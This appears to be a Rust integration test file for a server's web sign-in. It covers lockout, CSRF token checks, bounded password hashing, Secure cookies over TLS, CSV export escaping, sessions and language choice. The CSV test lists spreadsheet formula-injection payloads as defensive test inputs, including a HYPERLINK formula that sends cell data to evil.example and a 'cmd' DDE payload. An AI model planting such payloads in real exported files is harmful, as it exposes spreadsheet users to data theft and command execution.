//! Signing in to the pages over HTTP, without a browser: guessing is slowed, then locked out; a
//! sign-in post without its form's token pair is refused; a burst of wrong sign-ins is hashed a
//! few at a time rather than all at once; TLS marks cookies `Secure` and asks for HTTPS from
//! then on; and exported CSV cannot run formulas a phone user typed as a name.

#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a failed step is a failed test

use std::net::{IpAddr, Ipv4Addr};
use std::time::{Duration, Instant};

use reqwest::header::{CONTENT_TYPE, COOKIE, LOCATION, RETRY_AFTER, SET_COOKIE};
use reqwest::{Client, Response, StatusCode};
use steppe_domain::org::OrgKind;
use steppe_server::auth::password::hash_password;
use steppe_tests::harness::region;

const PASSWORD: &str = "督导口令2026";

fn client(from: Option<IpAddr>) -> Client {
    Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .local_address(from)
        .danger_accept_invalid_certs(true)
        .build()
        .unwrap()
}

/// The `Set-Cookie` of `name`, whole.
fn set_cookie(resp: &Response, name: &str) -> Option<String> {
    resp.headers()
        .get_all(SET_COOKIE)
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|v| v.starts_with(&format!("{name}=")))
        .map(str::to_string)
}

/// A sign-in form's token pair as a browser holds it: the cookie (`name=value`) and the hidden
/// field's value.
#[derive(Debug, Clone)]
struct FormToken {
    cookie: String,
    field: String,
}

/// The value of a page's hidden `csrf` field.
fn csrf_field(html: &str) -> String {
    html.split("name=\"csrf\" value=\"")
        .nth(1)
        .and_then(|s| s.split('"').next())
        .expect("the form carries its token")
        .to_string()
}

async fn form_token(c: &Client, base: &str) -> FormToken {
    let resp = c.get(format!("{base}/web/login")).send().await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let cookie = set_cookie(&resp, "steppe_login").expect("the form sets its token cookie");
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
        "{cookie}"
    );
    let field = csrf_field(&resp.text().await.unwrap());
    FormToken {
        cookie: cookie.split(';').next().unwrap().to_string(),
        field,
    }
}

async fn sign_in(c: &Client, base: &str, t: &FormToken, user: &str, password: &str) -> Response {
    c.post(format!("{base}/web/login"))
        .header(COOKIE, &t.cookie)
        .form(&[("user", user), ("password", password), ("csrf", &t.field)])
        .send()
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn repeated_wrong_passwords_lock_the_account_and_the_right_one_waits_too() {
    let (_dir, server, r) = region().await.unwrap();
    server
        .storage()
        .set_password(&r.supervisor.to_string(), &hash_password(PASSWORD).unwrap())
        .await
        .unwrap();
    let base = server.url();
    let c = client(None);
    let t = form_token(&c, &base).await;

    for i in 0..5 {
        let resp = sign_in(&c, &base, &t, "苏木督导", "wrong").await;
        assert_eq!(resp.status(), StatusCode::UNAUTHORIZED, "free attempt {i}");
        assert!(resp.text().await.unwrap().contains("用户或密码不正确"));
    }
    let locked = sign_in(&c, &base, &t, "苏木督导", "wrong").await;
    assert_eq!(locked.status(), StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(locked.headers()[RETRY_AFTER], "1");
    let page = locked.text().await.unwrap();
    assert!(page.contains("登录失败次数过多"), "{page}");
    assert!(
        page.contains("id=\"login\""),
        "the sign-in form again: {page}"
    );

    // The right password waits too, whether the account is named or given by id.
    let right = sign_in(&c, &base, &t, "苏木督导", PASSWORD).await;
    assert_eq!(right.status(), StatusCode::TOO_MANY_REQUESTS);
    let by_id = sign_in(&c, &base, &t, &r.supervisor.to_string(), PASSWORD).await;
    assert_eq!(by_id.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(set_cookie(&by_id, "steppe_session").is_none());

    // Once the wait is over the right password gets in, over plain HTTP without `Secure`.
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let signed_in = sign_in(&c, &base, &t, "苏木督导", PASSWORD).await;
    assert_eq!(signed_in.status(), StatusCode::SEE_OTHER);
    assert_eq!(signed_in.headers()[LOCATION], "/web");
    let session = set_cookie(&signed_in, "steppe_session").unwrap();
    assert!(
        session.contains("HttpOnly")
            && session.contains("SameSite=Strict")
            && !session.contains("Secure"),
        "{session}"
    );
    assert!(
        !signed_in
            .headers()
            .contains_key("strict-transport-security")
    );

    // The account starts afresh: the next wrong password is a plain refusal again.
    let resp = sign_in(&c, &base, &t, "苏木督导", "wrong").await;
    assert_eq!(resp.status(), StatusCode::UNAUTHORIZED);

    // A name that matches no one is locked out the same way.
    for _ in 0..5 {
        let resp = sign_in(&c, &base, &t, "无此人", "wrong").await;
        assert_eq!(resp.status(), StatusCode::UNAUTHORIZED);
    }
    let resp = sign_in(&c, &base, &t, "无此人", "wrong").await;
    assert_eq!(resp.status(), StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sign_in_post_without_its_token_pair_is_refused() {
    let (_dir, server, r) = region().await.unwrap();
    server
        .storage()
        .set_password(&r.supervisor.to_string(), &hash_password(PASSWORD).unwrap())
        .await
        .unwrap();
    let base = server.url();
    let c = client(None);
    let t = form_token(&c, &base).await;
    let other = form_token(&c, &base).await;
    assert_ne!(t.field, other.field, "each form gets its own token");

    let post = |cookie: Option<String>, field: Option<String>| {
        let mut form = vec![
            ("user", "苏木督导".to_string()),
            ("password", PASSWORD.into()),
        ];
        form.extend(field.map(|f| ("csrf", f)));
        let mut req = c.post(format!("{base}/web/login")).form(&form);
        if let Some(cookie) = cookie {
            req = req.header(COOKIE, cookie);
        }
        req.send()
    };
    for (what, cookie, field) in [
        ("neither", None, None),
        ("field only", None, Some(t.field.clone())),
        ("cookie only", Some(t.cookie.clone()), None),
        (
            "cookie only, empty field",
            Some(t.cookie.clone()),
            Some(String::new()),
        ),
        (
            "another form's field",
            Some(t.cookie.clone()),
            Some(other.field.clone()),
        ),
    ] {
        let resp = post(cookie, field).await.unwrap();
        assert_eq!(resp.status(), StatusCode::FORBIDDEN, "{what}");
        assert!(set_cookie(&resp, "steppe_session").is_none(), "{what}");
        assert!(
            set_cookie(&resp, "steppe_login").is_some(),
            "{what}: a fresh form to try again with"
        );
        assert!(
            resp.text().await.unwrap().contains("登录页面已过期"),
            "{what}"
        );
    }
    // Refused forms are not guesses: the matching pair still signs in at once.
    let resp = sign_in(&c, &base, &t, "苏木督导", PASSWORD).await;
    assert_eq!(resp.status(), StatusCode::SEE_OTHER);
}

fn status_kb(field: &str) -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix(field))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_burst_of_wrong_sign_ins_is_hashed_a_few_at_a_time() {
    let (_dir, server, r) = region().await.unwrap();
    server
        .storage()
        .set_password(&r.supervisor.to_string(), &hash_password(PASSWORD).unwrap())
        .await
        .unwrap();
    let base = server.url();
    let t = form_token(&client(None), &base).await;
    // From 64 loopback addresses, so the per-address count lets every one through to hashing
    // (Linux answers on all of 127.0.0.0/8): half a known account, half names of no one. The
    // clients are made first: each holds TLS roots of its own, which are not the server's memory.
    let clients: Vec<Client> = (0..64u8)
        .map(|i| client(Some(IpAddr::V4(Ipv4Addr::new(127, 0, 1, i + 1)))))
        .collect();
    let (rss, peak) = (status_kb("VmRSS:"), status_kb("VmHWM:"));

    let started = Instant::now();
    let burst: Vec<_> = clients
        .into_iter()
        .enumerate()
        .map(|(i, c)| {
            let (base, t) = (base.clone(), t.clone());
            tokio::spawn(async move {
                let user = if i % 2 == 0 {
                    "苏木督导".to_string()
                } else {
                    format!("无此人{i}")
                };
                let resp = sign_in(&c, &base, &t, &user, "wrong").await;
                let status = resp.status();
                if status == StatusCode::SERVICE_UNAVAILABLE {
                    assert!(resp.headers().contains_key(RETRY_AFTER));
                }
                status
            })
        })
        .collect();
    let mut statuses = Vec::new();
    for b in burst {
        statuses.push(b.await.unwrap());
    }
    let took = started.elapsed();
    let grown_mib = (status_kb("VmHWM:").saturating_sub(peak)) / 1024;
    let rss_grown_mib = (status_kb("VmRSS:").saturating_sub(rss)) / 1024;
    let count = |s: StatusCode| statuses.iter().filter(|&&x| x == s).count();
    println!(
        "64 wrong sign-ins in {took:?}: 401 × {}, 429 × {}, 503 × {}; peak memory +{grown_mib} MiB, resident +{rss_grown_mib} MiB",
        count(StatusCode::UNAUTHORIZED),
        count(StatusCode::TOO_MANY_REQUESTS),
        count(StatusCode::SERVICE_UNAVAILABLE),
    );
    assert!(
        statuses.iter().all(|s| [
            StatusCode::UNAUTHORIZED,
            StatusCode::TOO_MANY_REQUESTS,
            StatusCode::SERVICE_UNAVAILABLE
        ]
        .contains(s)),
        "{statuses:?}"
    );
    assert!(
        count(StatusCode::UNAUTHORIZED) >= 2,
        "some were checked: {statuses:?}"
    );
    // 64 checks at once would take 64 × 19 MiB; rationed, a few at a time.
    assert!(
        grown_mib < 400,
        "peak memory grew by {grown_mib} MiB during the burst"
    );
    // The server still answers, and still signs people in (from a fresh address: this one's
    // account is locked by the burst, which is the point).
    let c = client(Some(IpAddr::V4(Ipv4Addr::new(127, 0, 2, 1))));
    assert!(
        c.get(format!("{base}/healthz"))
            .send()
            .await
            .unwrap()
            .status()
            .is_success()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn over_tls_cookies_are_secure_and_https_is_required_from_then_on() {
    let (_dir, server, r) = region().await.unwrap();
    server
        .storage()
        .set_password(&r.supervisor.to_string(), &hash_password(PASSWORD).unwrap())
        .await
        .unwrap();
    let key =
        rcgen::generate_simple_self_signed(vec!["127.0.0.1".into(), "localhost".into()]).unwrap();
    let state = steppe_server::app_state(server.storage.clone(), None);
    // As `steppe-server serve --tls-cert … --tls-key …` does.
    state.web.sessions.set_secure(true);
    let running = steppe_server::http::serve_tls(
        state,
        "127.0.0.1:0".parse().unwrap(),
        steppe_server::http::Tls {
            cert_pem: key.cert.pem().into_bytes(),
            key_pem: key.signing_key.serialize_pem().into_bytes(),
        },
    )
    .await
    .unwrap();
    let base = format!("https://{}", running.addr);
    let c = client(None);

    let form = c.get(format!("{base}/web/login")).send().await.unwrap();
    assert_eq!(
        form.headers()["strict-transport-security"],
        "max-age=31536000"
    );
    assert!(
        set_cookie(&form, "steppe_login")
            .unwrap()
            .contains("; Secure")
    );
    let t = form_token(&c, &base).await;
    let resp = sign_in(&c, &base, &t, "苏木督导", PASSWORD).await;
    assert_eq!(resp.status(), StatusCode::SEE_OTHER);
    assert_eq!(
        resp.headers()["strict-transport-security"],
        "max-age=31536000"
    );
    let session = set_cookie(&resp, "steppe_session").unwrap();
    assert!(
        session.contains("; Secure") && session.contains("HttpOnly"),
        "{session}"
    );
    running.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exported_names_that_look_like_formulas_are_kept_as_text() {
    let (_dir, server, r) = region().await.unwrap();
    let storage = server.storage();
    storage
        .set_password(&r.supervisor.to_string(), &hash_password(PASSWORD).unwrap())
        .await
        .unwrap();
    let hostile = [
        // No comma: the naive CSV reading below splits on every one.
        "=HYPERLINK(\"http://evil.example/?\"&A1)",
        "@SUM(1)",
        "-2+3",
        "+cmd|' /C calc'!A0",
    ];
    for name in hostile {
        steppe_server::admin::create_org(storage, name, OrgKind::Gacha, Some(r.sumu))
            .await
            .unwrap();
    }
    let base = server.url();
    let c = client(None);
    let t = form_token(&c, &base).await;
    let resp = sign_in(&c, &base, &t, "苏木督导", PASSWORD).await;
    assert_eq!(resp.status(), StatusCode::SEE_OTHER);
    let session = set_cookie(&resp, "steppe_session").unwrap();
    let session = session.split(';').next().unwrap();

    let resp = c
        .get(format!("{base}/web/org/{}/export/overview", r.sumu))
        .header(COOKIE, session)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    assert!(
        resp.headers()[CONTENT_TYPE]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let text = resp.text().await.unwrap();
    let names: Vec<String> = text
        .trim_start_matches('\u{feff}')
        .lines()
        .skip(1)
        .filter_map(|l| l.split(',').next())
        .map(|c| c.trim_matches('"').replace("\"\"", "\""))
        .collect();
    for name in hostile {
        assert!(
            names.iter().any(|n| *n == format!("'{name}")),
            "{name} is exported quoted: {text}"
        );
    }
    assert!(
        names
            .iter()
            .all(|n| !n.starts_with(['=', '+', '-', '@', '\t', '\r'])),
        "{text}"
    );
    assert!(names.iter().any(|n| n == "巴音宝格德嘎查"), "{text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_signed_in_supervisor_stays_signed_in_across_a_restart_and_signing_out_ends_it() {
    let (_dir, mut server, r) = region().await.unwrap();
    server
        .storage()
        .set_password(&r.supervisor.to_string(), &hash_password(PASSWORD).unwrap())
        .await
        .unwrap();
    let c = client(None);
    let t = form_token(&c, &server.url()).await;
    let signed_in = sign_in(&c, &server.url(), &t, "苏木督导", PASSWORD).await;
    assert_eq!(signed_in.status(), StatusCode::SEE_OTHER);
    let session = set_cookie(&signed_in, "steppe_session").unwrap();
    let cookie = session.split(';').next().unwrap().to_string();
    let value = cookie.split('=').nth(1).unwrap().to_string();
    let home = |base: String, cookie: String| {
        let c = c.clone();
        async move {
            c.get(format!("{base}/web"))
                .header(COOKIE, cookie)
                .send()
                .await
                .unwrap()
        }
    };
    assert_eq!(
        home(server.url(), cookie.clone()).await.status(),
        StatusCode::OK
    );

    // The database keeps the session under a hash: its value is nowhere in the file.
    let bytes = std::fs::read(&server.database).unwrap();
    let wal = std::fs::read(format!("{}-wal", server.database)).unwrap_or_default();
    for file in [&bytes, &wal] {
        assert!(
            !file.windows(value.len()).any(|w| w == value.as_bytes()),
            "the cookie's value is stored"
        );
    }

    server.crash_and_restart().await.unwrap();
    let page = home(server.url(), cookie.clone()).await;
    assert_eq!(
        page.status(),
        StatusCode::OK,
        "still signed in after a restart"
    );
    let csrf = csrf_field(&page.text().await.unwrap());

    let out = c
        .post(format!("{}/web/logout", server.url()))
        .header(COOKIE, &cookie)
        .form(&[("csrf", csrf.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(out.status(), StatusCode::SEE_OTHER);
    server.crash_and_restart().await.unwrap();
    let after = home(server.url(), cookie).await;
    assert_eq!(after.status(), StatusCode::SEE_OTHER, "signed out for good");
    assert_eq!(after.headers()[LOCATION], "/web/login");
}

/// The overview page's HTML, for a browser sending `cookies` and asking for `accept_language`.
async fn overview(c: &Client, base: &str, cookies: &str, accept_language: &str) -> String {
    c.get(format!("{base}/web"))
        .header(COOKIE, cookies)
        .header("accept-language", accept_language)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap()
}

/// The language the overview page is written in, for a browser sending `cookies` and asking for
/// `accept_language`.
async fn page_lang(c: &Client, base: &str, cookies: &str, accept_language: &str) -> String {
    overview(c, base, cookies, accept_language)
        .await
        .split("<html lang=\"")
        .nth(1)
        .and_then(|s| s.split('"').next())
        .unwrap()
        .to_string()
}

/// The pages follow the signed-in user's language, then the browser's: a supervisor who chose
/// Mongolian in one browser finds it chosen when signing in from another, whose own
/// `Accept-Language` asks for English; choosing while signed out changes only that browser.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_language_a_user_chose_follows_them_to_another_browser() {
    let (_dir, server, r) = region().await.unwrap();
    let storage = server.storage();
    let supervisor = r.supervisor.to_string();
    storage
        .set_password(&supervisor, &hash_password(PASSWORD).unwrap())
        .await
        .unwrap();
    let base = server.url();
    let session_of = |resp: &Response| {
        set_cookie(resp, "steppe_session")
            .unwrap()
            .split(';')
            .next()
            .unwrap()
            .to_string()
    };

    // Signed out, a link changes this browser's cookie and nothing kept with the account.
    let c = client(None);
    let resp = c
        .get(format!("{base}/web/lang/en?back=/web/login"))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::SEE_OTHER);
    assert!(
        set_cookie(&resp, "steppe_lang")
            .unwrap()
            .starts_with("steppe_lang=en;")
    );
    assert_eq!(storage.user_lang(&supervisor).await.unwrap(), None);

    // Signed in, the choice is kept with the account.
    let t = form_token(&c, &base).await;
    let first = session_of(&sign_in(&c, &base, &t, "苏木督导", PASSWORD).await);
    let resp = c
        .get(format!("{base}/web/lang/mn-Mong?back=/web"))
        .header(COOKIE, &first)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::SEE_OTHER);
    assert_eq!(
        storage.user_lang(&supervisor).await.unwrap().as_deref(),
        Some("mn-Mong")
    );

    // Another browser, asking for English, signs in: the account's language is set for it.
    let other = client(None);
    let t = form_token(&other, &base).await;
    let signed_in = sign_in(&other, &base, &t, "苏木督导", PASSWORD).await;
    assert_eq!(signed_in.status(), StatusCode::SEE_OTHER);
    let lang = set_cookie(&signed_in, "steppe_lang").expect("the account's language");
    assert!(lang.starts_with("steppe_lang=mn-Mong;"), "{lang}");
    let cookies = format!(
        "{}; {}",
        session_of(&signed_in),
        lang.split(';').next().unwrap()
    );
    assert_eq!(
        page_lang(&other, &base, &cookies, "en-US,en;q=0.9").await,
        "mn-Mong"
    );
    // Without the cookie (a browser that refuses it), the browser's language still applies.
    let session = session_of(&signed_in);
    assert_eq!(
        page_lang(&other, &base, &session, "en-US,en;q=0.9").await,
        "en"
    );

    // A user who never chose gets no cookie at sign-in: their browser's language stands.
    let t = form_token(&other, &base).await;
    storage
        .set_password(&r.secretary.to_string(), &hash_password(PASSWORD).unwrap())
        .await
        .unwrap();
    let resp = sign_in(&other, &base, &t, &r.secretary.to_string(), PASSWORD).await;
    assert_eq!(resp.status(), StatusCode::SEE_OTHER);
    assert!(set_cookie(&resp, "steppe_lang").is_none());
    assert_eq!(
        storage.user_lang(&r.secretary.to_string()).await.unwrap(),
        None
    );

    // One who chose English on the sign-in page, with no choice kept yet, keeps it with the
    // account; signing out clears the browser's choice for whoever signs in next.
    let t = form_token(&other, &base).await;
    let resp = other
        .post(format!("{base}/web/login"))
        .header(COOKIE, format!("{}; steppe_lang=en", t.cookie))
        .form(&[
            ("user", r.secretary.to_string().as_str()),
            ("password", PASSWORD),
            ("csrf", &t.field),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::SEE_OTHER);
    assert_eq!(
        storage
            .user_lang(&r.secretary.to_string())
            .await
            .unwrap()
            .as_deref(),
        Some("en")
    );
    let session = session_of(&resp);
    let page = overview(&other, &base, &session, "zh-CN").await;
    let out = other
        .post(format!("{base}/web/logout"))
        .header(COOKIE, &session)
        .form(&[("csrf", csrf_field(&page))])
        .send()
        .await
        .unwrap();
    assert_eq!(out.status(), StatusCode::SEE_OTHER);
    let cleared = set_cookie(&out, "steppe_lang").expect("the choice is cleared");
    assert!(
        cleared.starts_with("steppe_lang=;") && cleared.contains("Max-Age=0"),
        "{cleared}"
    );
}
